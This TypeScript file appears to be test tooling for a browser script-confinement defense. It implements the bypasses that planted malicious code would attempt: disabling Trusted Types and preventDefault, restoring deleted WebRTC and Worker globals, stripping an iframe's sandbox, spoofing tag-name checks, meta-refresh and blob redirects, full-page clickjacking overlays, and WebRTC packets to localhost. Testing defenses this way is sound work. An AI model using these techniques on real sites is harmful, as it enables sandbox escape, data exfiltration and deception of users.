/**
 * What malicious code would bring along: it knows the walls of the page, and
 * tries to undo them before it tries to get out. It is planted as text.
 */
export interface Tools {
  readonly given: string;
  /** An element with these attributes, in the document. */
  element<Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    attributes: Readonly<Record<string, string>>,
  ): HTMLElementTagNameMap[Name];
  /** The same of a drawing. */
  svg(name: string, attributes: Readonly<Record<string, string>>): SVGElement;
  /** The same of a formula, where one can be made. */
  formulas(attributes: Readonly<Record<string, string>>): readonly Element[];
  /** The same by each way that needs no `createElement` of this document, all in the document. */
  copies<Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    attributes: Readonly<Record<string, string>>,
  ): readonly HTMLElementTagNameMap[Name][];
  /** The root of a new document, in this one; without a namespace it is of HTML. */
  root(
    name: string,
    attributes: Readonly<Record<string, string>>,
    way?: 'inserted' | 'adopted' | 'imported' | 'copied',
    space?: string,
  ): Element;
  /** A word of the frame's own markup that leads elsewhere. */
  ownRefresh(address: string, way: 'cloned' | 'imported' | 'changed' | 'adopted'): void;
  /** A link over the whole page, which has the focus. */
  bait(
    kind: 'a' | 'svg' | 'root a' | 'root svg' | 'root math',
    attributes: Readonly<Record<string, string>>,
  ): void;
  /** Windows whose interfaces can be used. */
  realms(): readonly (Window & typeof globalThis)[];
  /** Sends packets to the port by WebRTC of this name, of this realm or another. */
  gather(name: string, port: number, realm?: object): Promise<void>;
  /** The same server by another name, to which there is no connection yet. */
  elsewhere(address: string): string;
  /** Does it when the page has been loaded: a moment later, as what was planted is told of no event. */
  later(work: () => void): void;
  /** The address of a page that goes on to another. */
  blobPage(address: string): string;
}

interface TrustedScope {
  readonly trustedTypes: { createPolicy(name: string, rules: object): unknown };
}

/** In a worker: what was hidden is deleted, and looked for where it was inherited from. */
export function undoInWorker(): void {
  for (const name of ['WebTransport', 'Worker', 'RTCPeerConnection']) {
    if (Reflect.get(globalThis, name) !== undefined) continue;
    Reflect.deleteProperty(globalThis, name);
    Reflect.defineProperty(globalThis, name, {
      get: () => Object.getPrototypeOf(globalThis)[name],
    });
  }
}

/** Its text is planted, so all that it needs is in it. */
export function makeTools(given: string): Tools {
  const [ownMeta] = document.querySelectorAll('meta');
  undo();

  /** Has every refusal by script do nothing, and everything that was hidden seen again. */
  function undo(): void {
    Event.prototype.preventDefault = () => {};
    for (const name of [
      'click',
      'auxclick',
      'submit',
      'navigate',
      'load',
      'securitypolicyviolation',
    ]) {
      addEventListener(name, (event) => event.stopImmediatePropagation(), true);
    }
    for (const name of [
      'RTCPeerConnection',
      'webkitRTCPeerConnection',
      'WebTransport',
      'Worker',
      'history',
      'navigation',
    ]) {
      if (Reflect.get(globalThis, name) !== undefined) continue;
      Reflect.deleteProperty(globalThis, name);
      Reflect.defineProperty(globalThis, name, {
        get: () => Object.getPrototypeOf(globalThis)[name],
      });
    }
    for (const name of ['default', 'touchstone']) {
      try {
        const same = (text: string) => text;
        const rules = { createHTML: same, createScript: same, createScriptURL: same };
        (globalThis as unknown as TrustedScope).trustedTypes.createPolicy(name, rules);
      } catch {
        // Taken, not allowed, or not there.
      }
    }
    for (const meta of document.querySelectorAll('meta, base')) meta.remove();
    try {
      parent.document.querySelector('iframe')?.removeAttribute('sandbox');
    } catch {
      // Of another origin.
    }
  }

  const HTML = 'http://www.w3.org/1999/xhtml';

  function set<Made extends Element>(
    made: Made,
    attributes: Readonly<Record<string, string>>,
  ): Made {
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    return made;
  }

  const element: Tools['element'] = (name, attributes) =>
    document.documentElement.appendChild(set(document.createElement(name), attributes));

  const svg: Tools['svg'] = (name, attributes) => {
    const space = 'http://www.w3.org/2000/svg';
    const drawing = document.documentElement.appendChild(document.createElementNS(space, 'svg'));
    return drawing.appendChild(
      set(document.createElementNS(space, name), attributes) as SVGElement,
    );
  };

  /** In Firefox whatever is in a formula can be a link. */
  const formulas: Tools['formulas'] = (attributes) => {
    const space = 'http://www.w3.org/1998/Math/MathML';
    try {
      const formula = document.createElementNS(space, 'math');
      document.documentElement.append(formula);
      return [formula.appendChild(set(document.createElementNS(space, 'mtext'), attributes))];
    } catch {
      return [];
    }
  };

  function transformed(name: string, attributes: Readonly<Record<string, string>>): Element | null {
    const sheet = document.implementation.createDocument(null, null);
    const space = 'http://www.w3.org/1999/XSL/Transform';
    const root = sheet.appendChild(sheet.createElementNS(space, 'xsl:stylesheet'));
    root.setAttribute('version', '1.0');
    const template = root.appendChild(sheet.createElementNS(space, 'xsl:template'));
    template.setAttribute('match', '/');
    const made = sheet.createElementNS('http://www.w3.org/1999/xhtml', name);
    template.appendChild(set(made, attributes));
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    return processor.transformToFragment(document, document).firstElementChild;
  }

  /** What a check might read or call gives what is harmless, or hands on what was asked for. */
  function deceived<T>(name: string, work: () => T): T {
    const kept = (
      [
        [String.prototype, 'toLowerCase', { value: () => 'div' }],
        [
          Reflect,
          'apply',
          { value: (made: Document['createElement'], self: Document) => made.call(self, name) },
        ],
        [Element.prototype, 'localName', { get: () => 'div' }],
        [Element.prototype, 'tagName', { get: () => 'DIV' }],
        [Node.prototype, 'nodeName', { get: () => 'DIV' }],
      ] as const
    ).map(([owner, key, instead]) => {
      const own = Object.getOwnPropertyDescriptor(owner, key) ?? {};
      Object.defineProperty(owner, key, { ...instead, configurable: true });
      return () => Object.defineProperty(owner, key, own);
    });
    try {
      return work();
    } finally {
      for (const restore of kept) restore();
    }
  }

  /** Another text each time that it is read. */
  function twoFaced(name: string): string {
    let reads = 0;
    const faces = { toString: () => (reads++ === 0 ? 'div' : name) };
    return faces as unknown as string;
  }

  const copies: Tools['copies'] = (name, attributes) => {
    const ways = [
      () => document.implementation.createHTMLDocument().createElement(name),
      () =>
        document.implementation
          .createDocument('http://www.w3.org/1999/xhtml', 'html')
          .createElementNS('http://www.w3.org/1999/xhtml', name),
      () => document.createElement(name).cloneNode() as Element,
      () => document.importNode(document.createElement(name)),
      () => transformed(name, attributes),
      () => deceived(name, () => document.createElement(name)),
      () => document.createElement(twoFaced(name)),
    ];
    const places = [
      () => document.documentElement,
      () => document.body ?? document.documentElement,
      () => {
        const host = document.documentElement.appendChild(document.createElement('div'));
        return host.attachShadow({ mode: 'closed' });
      },
    ];
    return ways.flatMap((way) =>
      places.flatMap((place) => {
        try {
          const made = way();
          if (made) place().append(set(made, attributes));
          // It is of the name that was asked for.
          return made ? [made as HTMLElementTagNameMap[typeof name]] : [];
        } catch {
          return [];
        }
      }),
    );
  };

  const root: Tools['root'] = (name, attributes, way = 'inserted', space = HTML) => {
    const made = document.implementation.createDocument(space, name).documentElement;
    const ways = {
      inserted: () => made,
      adopted: () => document.adoptNode(made),
      imported: () => document.importNode(made),
      copied: () => made.cloneNode() as Element,
    };
    return document.documentElement.appendChild(set(ways[way](), attributes));
  };

  const ownRefresh: Tools['ownRefresh'] = (address, way) => {
    if (ownMeta === undefined) return;
    const ways = {
      cloned: () => ownMeta.cloneNode() as Element,
      imported: () => document.importNode(ownMeta),
      changed: () => ownMeta,
      adopted: () => {
        const elsewhere = document.implementation.createHTMLDocument();
        return document.adoptNode(elsewhere.adoptNode(ownMeta));
      },
    };
    const attributes = { 'http-equiv': 'refresh', content: `0;url=${address}` };
    document.documentElement.append(set(ways[way](), attributes));
  };

  /** A link as a hand finds it, and what is laid over the page. */
  function linkOf(
    kind: Parameters<Tools['bait']>[0],
    attributes: Readonly<Record<string, string>>,
  ): readonly [link: Element, box: Element] {
    const rooted = (space: string, outer: string, inner: string) => {
      const box = root(outer, {}, 'inserted', space);
      const link = root(inner, attributes, 'inserted', space);
      box.append(link);
      return [link, box] as const;
    };
    switch (kind) {
      case 'a': {
        const link = element('a', attributes);
        return [link, link];
      }
      case 'svg': {
        const link = svg('a', attributes);
        return [link, link.parentElement ?? link];
      }
      case 'root a': {
        const link = root('a', attributes);
        return [link, link];
      }
      case 'root svg':
        return rooted('http://www.w3.org/2000/svg', 'svg', 'a');
      case 'root math':
        return rooted('http://www.w3.org/1998/Math/MathML', 'math', 'mtext');
    }
  }

  const bait: Tools['bait'] = (kind, attributes) => {
    const [link, box] = linkOf(kind, attributes);
    const style = 'position: fixed; inset: 0; width: 100vw; height: 100vh; z-index: 9';
    (box as HTMLElement).style.cssText = style;
    if (kind === 'root math') {
      link.append('x');
      (link as HTMLElement).style.cssText = 'display: block; font-size: 600px';
    }
    if (kind.endsWith('svg')) {
      const area = document.createElementNS('http://www.w3.org/2000/svg', 'rect');
      link.append(set(area, { width: '2000', height: '2000', fill: 'red' }));
    }
    // The page takes the focus for itself at its start.
    setInterval(() => (link as HTMLElement).focus(), 50);
  };

  const realms: Tools['realms'] = () => {
    const frames = [...copies('iframe', {}), element('iframe', {}), element('object', {})];
    return frames.flatMap((frame) => {
      const realm = frame.contentWindow as (Window & typeof globalThis) | null;
      try {
        return realm?.document ? [realm] : [];
      } catch {
        return [];
      }
    });
  };

  async function gather(name: string, port: number, realm: object = globalThis): Promise<void> {
    const Connection = Reflect.get(realm, name) as typeof RTCPeerConnection;
    const connection = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
  }

  const blobPage: Tools['blobPage'] = (address) => {
    const page = `<meta http-equiv="refresh" content="0;url=${address}">`;
    return URL.createObjectURL(new Blob([page], { type: 'text/html' }));
  };

  const elsewhere: Tools['elsewhere'] = (address) => address.replace('127.0.0.1', 'localhost');

  const later: Tools['later'] = (work) => void setTimeout(work, 300);

  return {
    given,
    elsewhere,
    later,
    element,
    svg,
    formulas,
    copies,
    root,
    ownRefresh,
    bait,
    realms,
    gather,
    blobPage,
  };
}
